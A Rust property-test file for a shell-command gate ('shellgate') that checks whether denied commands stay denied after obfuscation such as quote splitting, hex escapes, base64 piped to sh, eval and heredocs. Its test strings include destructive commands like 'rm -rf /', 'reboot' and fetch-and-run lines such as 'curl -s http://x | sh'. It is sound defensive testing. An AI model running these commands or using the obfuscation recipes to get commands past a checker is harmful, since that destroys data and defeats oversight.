//! Metamorphic obfuscation tests: every corpus command labelled `ask` or `deny` is rewritten
//! by random compositions of transformations bash treats as equivalent (quote splitting,
//! backslashes, `$'\x..'`, wrappers, absolute paths, `bash -c`, `eval`, grouping, line
//! continuations, stdin into a shell, base64, here-strings, heredocs, variable indirection).
//! The decision must never become `allow`, and a `deny` must stay `deny`. Harmless (`allow`)
//! commands rewritten harmlessly (argument quote splitting, `sh -c`) must not become `deny`.
//!
//! Every rewrite is applied only where it is sound for that command (see [`rewrite`]); a
//! failing case is shrunk by proptest to a minimal seed and plan. Runs use a fixed seed
//! (`PROPTEST_RNG_SEED` / `PROPTEST_CASES` override it for exploration).
#![expect(
    clippy::print_stderr,
    clippy::print_stdout,
    reason = "the test reports its figures"
)]

mod support;

use base64::Engine;
use proptest::prelude::*;
use proptest::test_runner::TestRunner;
use shellgate::Decision;
use support::{BUILTINS, KEYWORDS, Shape, config, decide, first_plain_word, shape};

/// How one character of a program word is spelled.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Style {
    Plain,
    Backslash,
    Single,
    Double,
    AnsiHex,
    AnsiOct,
}

fn style() -> impl Strategy<Value = Style> {
    prop_oneof![
        Just(Style::Plain),
        Just(Style::Backslash),
        Just(Style::Single),
        Just(Style::Double),
        Just(Style::AnsiHex),
        Just(Style::AnsiOct),
    ]
}

/// A respelling of one plain word: styles over character ranges, and empty quotes (`''` or
/// `""`) inserted at positions. Positions are taken modulo the word's length.
#[derive(Debug, Clone)]
struct Spelling {
    runs: Vec<(usize, usize, Style)>,
    empties: Vec<(usize, bool)>,
}

fn spelling() -> impl Strategy<Value = Spelling> {
    (
        prop::collection::vec((0usize..16, 1usize..6, style()), 0..3),
        prop::collection::vec((0usize..16, any::<bool>()), 0..2),
    )
        .prop_map(|(runs, empties)| Spelling { runs, empties })
}

/// Spell `word` (plain word characters only) according to `sp`; bash decodes the result back
/// to `word`.
fn spell(word: &str, sp: &Spelling) -> String {
    let chars: Vec<char> = word.chars().collect();
    let n = chars.len();
    if n == 0 {
        return String::new();
    }
    let mut styles = vec![Style::Plain; n];
    for &(pos, len, st) in &sp.runs {
        let start = pos % n;
        for s in styles.iter_mut().skip(start).take(len) {
            *s = st;
        }
    }
    let mut breaks = vec![None; n + 1];
    for &(pos, double) in &sp.empties {
        breaks[pos % (n + 1)] = Some(double);
    }
    let mut out = String::new();
    let mut i = 0;
    while i <= n {
        if let Some(double) = breaks[i] {
            out.push_str(if double { "\"\"" } else { "''" });
        }
        if i == n {
            break;
        }
        // A run of one style up to the next break.
        let st = styles[i];
        let mut j = i + 1;
        while j < n && styles[j] == st && breaks[j].is_none() {
            j += 1;
        }
        let run: String = chars[i..j].iter().collect();
        match st {
            Style::Plain => out.push_str(&run),
            Style::Backslash => run.chars().for_each(|c| {
                out.push('\\');
                out.push(c);
            }),
            Style::Single => out.push_str(&format!("'{run}'")),
            Style::Double => out.push_str(&format!("\"{run}\"")),
            Style::AnsiHex => {
                out.push_str("$'");
                run.bytes()
                    .for_each(|b| out.push_str(&format!("\\x{b:02x}")));
                out.push('\'');
            }
            Style::AnsiOct => {
                out.push_str("$'");
                run.bytes()
                    .for_each(|b| out.push_str(&format!("\\{b:03o}")));
                out.push('\'');
            }
        }
        i = j;
    }
    out
}

/// Programs put in front of an external command that still run it.
#[derive(Debug, Clone, Copy)]
enum Wrapper {
    Sudo,
    SudoURoot,
    Env,
    Nice,
    NiceN,
    Timeout,
    Nohup,
}

impl Wrapper {
    fn text(self) -> &'static str {
        match self {
            Wrapper::Sudo => "sudo ",
            Wrapper::SudoURoot => "sudo -u root ",
            Wrapper::Env => "env X=1 ",
            Wrapper::Nice => "nice ",
            Wrapper::NiceN => "nice -n 5 ",
            Wrapper::Timeout => "timeout 5 ",
            Wrapper::Nohup => "nohup ",
        }
    }
}

fn wrapper() -> impl Strategy<Value = Wrapper> {
    prop_oneof![
        Just(Wrapper::Sudo),
        Just(Wrapper::SudoURoot),
        Just(Wrapper::Env),
        Just(Wrapper::Nice),
        Just(Wrapper::NiceN),
        Just(Wrapper::Timeout),
        Just(Wrapper::Nohup),
    ]
}

/// Builtins that may stand outermost in front of the first command.
#[derive(Debug, Clone, Copy)]
enum Outer {
    None,
    Command,
    Exec,
}

/// Rewrites of the whole command text.
#[derive(Debug, Clone, Copy)]
enum Whole {
    BashC,
    ShC,
    ShLc,
    Eval,
    Brace,
    Subshell,
    EchoSh,
    PrintfBash,
    Base64,
    HereString,
    Heredoc,
    Continuation,
}

fn whole() -> impl Strategy<Value = Whole> {
    prop_oneof![
        Just(Whole::BashC),
        Just(Whole::ShC),
        Just(Whole::ShLc),
        Just(Whole::Eval),
        Just(Whole::Brace),
        Just(Whole::Subshell),
        Just(Whole::EchoSh),
        Just(Whole::PrintfBash),
        Just(Whole::Base64),
        Just(Whole::HereString),
        Just(Whole::Heredoc),
        Just(Whole::Continuation),
    ]
}

/// One composition of rewrites.
#[derive(Debug, Clone)]
struct Plan {
    abs: Option<usize>,
    word: Spelling,
    wrappers: Vec<Wrapper>,
    outer: Outer,
    indirect: bool,
    /// Respellings of the arguments of a simple command whose words are all plain.
    args: Vec<Spelling>,
    whole: Vec<Whole>,
}

fn plan() -> impl Strategy<Value = Plan> {
    (
        prop::option::weighted(0.3, 0usize..4),
        spelling(),
        prop::collection::vec(wrapper(), 0..3),
        prop_oneof![
            4 => Just(Outer::None),
            1 => Just(Outer::Command),
            1 => Just(Outer::Exec)
        ],
        prop::bool::weighted(0.2),
        // At most three whole-text layers: with the corpus's own nesting this stays under
        // the analyser's nesting limit (8), past which `ask` is the documented answer.
        prop::collection::vec(whole(), 0..4),
        prop::collection::vec(spelling(), 0..4),
    )
        .prop_map(|(abs, word, wrappers, outer, indirect, whole, args)| Plan {
            abs,
            word,
            wrappers,
            outer,
            indirect,
            args,
            whole,
        })
}

const ABS_DIRS: [&str; 4] = ["/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/"];

/// Index of the first unquoted space on the first line, not inside a comment: replacing it
/// with `\`+newline is a line continuation bash removes.
fn first_free_space(t: &str) -> Option<usize> {
    let b = t.as_bytes();
    let (mut sq, mut dq, mut ansi) = (false, false, false);
    let mut i = 0;
    let mut word_start = true;
    while i < b.len() {
        let c = b[i];
        if sq || ansi {
            if ansi && c == b'\\' {
                i += 2;
                continue;
            }
            if c == b'\'' {
                sq = false;
                ansi = false;
            }
            i += 1;
            continue;
        }
        match c {
            b'\\' => {
                i += 2;
                word_start = false;
                continue;
            }
            b'"' => dq = !dq,
            b'\'' if !dq => sq = true,
            b'$' if !dq && b.get(i + 1) == Some(&b'\'') => {
                ansi = true;
                i += 2;
                continue;
            }
            b'\n' => return None,
            b'#' if !dq && word_start => return None,
            b' ' if !dq => return Some(i),
            _ => {}
        }
        word_start = matches!(c, b' ' | b'\t' | b';' | b'&' | b'|' | b'(' | b'{');
        i += 1;
    }
    None
}

fn q(t: &str) -> String {
    shell_words::quote(t).into_owned()
}

/// Known, reported, not yet fixed gaps in the analyser (see `docs/ROBUSTNESS.md`). A rewrite
/// that goes through one is not counted as a failure of the properties below; each gap has
/// its own `#[ignore]`d test with the minimal command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Gap {
    /// A fullwidth program name is denied at the top level (NFKC), but inside a decoded
    /// payload it is left as it is; bash would not run it either, so not a bypass.
    FullwidthInsidePayload,
    /// Not a gap: a NUL in a `-c` string is where `execve` cuts the argument, so the rewrite
    /// is not equivalent for a seed holding NUL bytes.
    NulCutByExecve,
}

/// Apply `p` to `seed`, only where each step is sound. Returns the rewritten command and the
/// known gaps it goes through.
fn rewrite(seed: &str, p: &Plan) -> (String, Vec<Gap>) {
    let mut gaps = Vec::new();
    let mut t = seed.to_string();
    if let Some((w, rest)) = first_plain_word(seed)
        && !KEYWORDS.contains(&w)
    {
        {
            let external = !BUILTINS.contains(&w);
            let sh = shape(seed);
            let mut word = w.to_string();
            if let Some(d) = p.abs
                && external
                && !w.contains('/')
            {
                word = format!("{}{w}", ABS_DIRS[d]);
            }
            let spelled = spell(&word, &p.word);
            let mut prefix = String::new();
            if sh != Shape::Other {
                if external {
                    for wr in p.wrappers.iter().rev() {
                        prefix.insert_str(0, wr.text());
                    }
                }
                match p.outer {
                    Outer::Command => prefix.insert_str(0, "command "),
                    Outer::Exec if external && sh == Shape::Simple => prefix.insert_str(0, "exec "),
                    _ => {}
                }
            }
            let respelled;
            let mut rest = rest;
            if sh == Shape::Simple
                && !p.args.is_empty()
                && let Some(words) = plain_words(rest)
                && words
                    .iter()
                    .all(|w| !w.is_empty() && w.chars().all(support::is_plain_word_char))
            {
                respelled = words
                    .iter()
                    .enumerate()
                    .map(|(i, w)| match p.args.get(i) {
                        Some(sp) => format!(" {}", spell(w, sp)),
                        None => format!(" {w}"),
                    })
                    .collect::<String>();
                rest = &respelled;
            }
            t = if p.indirect && sh != Shape::Other {
                format!("sgp={spelled}; {prefix}$sgp{rest}")
            } else {
                format!("{prefix}{spelled}{rest}")
            };
        }
    }
    let mut heredocs = 0;
    if seed.contains('\0')
        && p.whole
            .iter()
            .any(|w| matches!(w, Whole::BashC | Whole::ShC | Whole::ShLc))
    {
        gaps.push(Gap::NulCutByExecve);
    }
    for wh in &p.whole {
        t = match wh {
            Whole::BashC => format!("bash -c {}", q(&t)),
            Whole::ShC => format!("sh -c {}", q(&t)),
            Whole::ShLc => format!("sh -lc {}", q(&t)),
            Whole::Eval => format!("eval {}", q(&t)),
            Whole::Brace => format!("{{ {t}\n}}"),
            Whole::Subshell => format!("( {t}\n)"),
            Whole::EchoSh => format!("echo {} | bash", q(&t)),
            Whole::PrintfBash => format!("printf '%s' {} | bash", q(&t)),
            Whole::Base64 => {
                if !seed.is_ascii() {
                    gaps.push(Gap::FullwidthInsidePayload);
                }
                format!(
                    "echo {} | base64 -d | sh",
                    base64::engine::general_purpose::STANDARD.encode(t.as_bytes())
                )
            }
            Whole::HereString => format!("bash <<< {}", q(&t)),
            Whole::Heredoc => {
                heredocs += 1;
                let d = format!("SGEOF{heredocs}");
                if t.lines().any(|l| l == d) {
                    t
                } else {
                    format!("bash <<'{d}'\n{t}\n{d}")
                }
            }
            Whole::Continuation => match first_free_space(&t) {
                Some(i) => format!("{} \\\n{}", &t[..i], &t[i + 1..]),
                None => t,
            },
        };
    }
    (t, gaps)
}

/// Run `cases` generated (seed index, plan) pairs through `check`.
fn run_plans(
    seeds: &[String],
    cases: u32,
    check: impl Fn(&str, &str, Decision) -> Result<(), TestCaseError>,
) {
    if seeds.is_empty() {
        eprintln!("no corpus seeds pass as labelled; nothing to rewrite");
        return;
    }
    let gapped = std::cell::Cell::new(0u32);
    let mut runner = TestRunner::new(config(cases));
    let result = runner.run(&(0..seeds.len(), plan()), |(i, p)| {
        let seed = &seeds[i];
        let (cmd, gaps) = rewrite(seed, &p);
        if !gaps.is_empty() {
            gapped.set(gapped.get() + 1);
            return Ok(());
        }
        check(seed, &cmd, decide(&cmd))
    });
    eprintln!("{cases} rewrites, {} through known gaps", gapped.get());
    if let Err(e) = result {
        panic!("{e}");
    }
}

#[test]
fn deny_survives_obfuscation_and_wrapping() {
    let seeds = support::passing_seeds("deny");
    run_plans(&seeds, 4000, |seed, cmd, d| {
        prop_assert_eq!(
            d,
            Decision::Deny,
            "seed {:?} rewritten to {:?} is no longer denied",
            seed,
            cmd
        );
        Ok(())
    });
}

#[test]
fn ask_never_becomes_allow_under_obfuscation() {
    let seeds = support::passing_seeds("ask");
    run_plans(&seeds, 1000, |seed, cmd, d| {
        prop_assert_ne!(
            d,
            Decision::Allow,
            "seed {:?} rewritten to {:?} is allowed",
            seed,
            cmd
        );
        Ok(())
    });
}

/// `cmd` split into words when it has no shell syntax beyond quotes and spaces, so quoting
/// each word differently keeps its meaning.
fn plain_words(cmd: &str) -> Option<Vec<String>> {
    if cmd.contains([
        ';', '&', '|', '<', '>', '(', ')', '$', '`', '\\', '*', '?', '[', ']', '{', '}', '~', '#',
        '!', '\n', '=',
    ]) {
        return None;
    }
    shell_words::split(cmd).ok()
}

fn requote(words: &[String], sp: &[Spelling]) -> String {
    words
        .iter()
        .enumerate()
        .map(|(i, w)| {
            let plain = !w.is_empty() && w.chars().all(support::is_plain_word_char);
            match sp.get(i) {
                Some(s) if plain => spell(w, s),
                Some(_) => format!("{}\"\"", q(w)),
                None => q(w),
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

#[test]
fn harmless_commands_stay_not_denied_when_requoted_or_wrapped() {
    let seeds = support::passing_seeds("allow");
    let mut runner = TestRunner::new(config(1500));
    let strat = (
        0..seeds.len(),
        prop::collection::vec(spelling(), 0..6),
        0u8..4,
    );
    let result = runner.run(&strat, |(i, sp, wrap)| {
        let seed = &seeds[i];
        let mut cmd = match plain_words(seed) {
            Some(words) => requote(&words, &sp),
            None => seed.clone(),
        };
        cmd = match wrap {
            1 => format!("sh -c {}", q(&cmd)),
            2 => format!("bash -c {}", q(&cmd)),
            3 => format!("sh -c {}", q(&format!("bash -c {}", q(&cmd)))),
            _ => cmd,
        };
        let d = decide(&cmd);
        prop_assert_ne!(
            d,
            Decision::Deny,
            "harmless seed {:?} rewritten to {:?} is denied",
            seed,
            cmd
        );
        Ok(())
    });
    if let Err(e) = result {
        panic!("{e}");
    }
}

#[test]
fn spelling_decodes_back_to_the_word_in_bash() {
    // The rewrites themselves are checked against bash: a respelled word must decode to the
    // original. Skips when bash is missing.
    if std::process::Command::new("bash")
        .arg("-c")
        .arg("true")
        .status()
        .is_err()
    {
        eprintln!("bash not found; skipping");
        return;
    }
    let mut runner = TestRunner::new(config(64));
    let result = runner.run(&("[a-z0-9_./+-]{1,12}", spelling()), |(w, sp)| {
        let spelled = spell(&w, &sp);
        let out = std::process::Command::new("bash")
            .arg("-c")
            .arg(format!("printf '%s' {spelled}"))
            .output()
            .expect("bash runs");
        prop_assert_eq!(String::from_utf8_lossy(&out.stdout), w.as_str());
        Ok(())
    });
    if let Err(e) = result {
        panic!("{e}");
    }
}

#[test]
fn rewrites_are_applied_where_sound() {
    let p = Plan {
        abs: Some(1),
        word: Spelling {
            runs: vec![(0, 1, Style::Single)],
            empties: vec![],
        },
        wrappers: vec![Wrapper::Sudo],
        outer: Outer::Exec,
        indirect: false,
        args: vec![],
        whole: vec![Whole::BashC],
    };
    assert_eq!(
        rewrite("rm -rf /", &p).0,
        "bash -c 'exec sudo '\\''/'\\''usr/bin/rm -rf /'"
    );
    // Builtins get no wrappers or absolute path; lists get no exec.
    assert_eq!(
        rewrite("cd / && rm -rf *", &p).0,
        "bash -c ''\\''c'\\''d / && rm -rf *'"
    );
    let c = Plan {
        whole: vec![Whole::Continuation],
        ..p.clone()
    };
    assert_eq!(rewrite("# rm -rf /", &c).0, "# rm -rf /");
    let a = Plan {
        abs: None,
        outer: Outer::None,
        wrappers: vec![],
        whole: vec![],
        args: vec![
            Spelling {
                runs: vec![(0, 1, Style::Single)],
                empties: vec![],
            },
            Spelling {
                runs: vec![(0, 1, Style::AnsiHex)],
                empties: vec![],
            },
        ],
        ..p.clone()
    };
    assert_eq!(rewrite("rm -rf /", &a).0, "'r'm '-'rf $'\\x2f'");
}

/// Exploration aid, not a check: generates `PROPTEST_CASES` (default 3000) rewrites per
/// label without shrinking and prints every failure, one line each, so several bypasses
/// are seen in one run. `cargo test --test metamorphic -- --ignored explore --nocapture`.
#[test]
#[ignore = "exploration aid: prints failures instead of asserting"]
fn explore_prints_every_failing_rewrite() {
    use proptest::strategy::ValueTree;
    let cases: usize = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(3000);
    for label in ["deny", "ask"] {
        let seeds = support::passing_seeds(label);
        if seeds.is_empty() {
            continue;
        }
        let mut runner = TestRunner::new(config(1));
        let strat = (0..seeds.len(), plan());
        let mut failed = 0;
        for _ in 0..cases {
            let (i, p) = strat.new_tree(&mut runner).expect("tree").current();
            let (cmd, gaps) = rewrite(&seeds[i], &p);
            if !gaps.is_empty() && std::env::var_os("SG_SHOW_GAPS").is_none() {
                continue;
            }
            let d = decide(&cmd);
            let bad = match label {
                "deny" => d != Decision::Deny,
                _ => d == Decision::Allow,
            };
            if bad {
                failed += 1;
                println!("{label}->{} seed={:?} cmd={cmd:?}", d.as_str(), seeds[i]);
            }
        }
        println!("{label}: {failed} of {cases} rewrites failed");
    }
}

// Known gaps found by these properties; each is the minimal command. They are excluded from
// the properties above (see [`Gap`]) and kept here, ignored, until the analyser is fixed.

fn assert_denied(cmd: &str) {
    assert_eq!(decide(cmd), Decision::Deny, "{cmd:?}");
}

#[test]
fn quoted_export_still_assigns_the_variable() {
    assert_denied("''export X=/; rm -rf $X");
    assert_denied("'declare' X=/; rm -rf $X");
    assert_denied("command export X=/; rm -rf $X");
    assert_denied("builtin export X=/; rm -rf $X");
    assert_denied("p=export; $p X=/; rm -rf $X");
}

#[test]
fn variables_set_by_read_or_printf_v_are_not_allowed_blindly() {
    assert_ne!(decide("read X <<< /; rm -rf $X"), Decision::Allow);
    assert_ne!(decide("printf -v X /; rm -rf $X"), Decision::Allow);
}

#[test]
fn quote_then_backslash_in_assignment_decodes() {
    assert_denied("X=''\\/; rm -rf $X");
    assert_denied("X='/'\\.; rm -rf $X");
    assert_denied("p='r'\\m; $p -rf /");
    assert_denied("p=\"e\"\\cho; $p 'rm -rf /' | sh");
}

#[test]
fn heredoc_body_starting_with_backslash_is_judged() {
    assert_denied("bash <<E\n\\rm -rf /\nE");
    assert_denied("bash <<'E'\n\\rm -rf /\nE");
    assert_denied("cat <<'E' | sh\n\\rm -rf /\nE");
    assert_denied("bash <<E\n\\reboot\nE");
}

#[test]
fn code_known_only_at_run_time_is_not_allowed() {
    for cmd in [
        "$FOO -rf /",
        "eval \"$FOO\"",
        "sh -c \"$FOO\"",
        "curl -s http://x | sh",
        "bash -c \"$(curl -s x)\"",
        "python3 -c \"$CODE\"",
        "echo / | xargs rm -rf",
        "echo 'rm -rf /' | xargs -I{} sh -c '{}'",
        "echo 'rm -rf /' | source /dev/stdin",
        "source <(echo 'rm -rf /')",
        "set -- rm -rf /; \"$@\"",
        "a=(rm -rf /); \"${a[@]}\"",
        "IFS=,; c=rm,-rf,/; $c",
    ] {
        assert_ne!(decide(cmd), Decision::Allow, "{cmd:?}");
    }
}

#[test]
fn substitution_output_run_as_a_command_is_judged() {
    assert_denied("$(cat <<EOF\nrm -rf /\nEOF\n)");
}
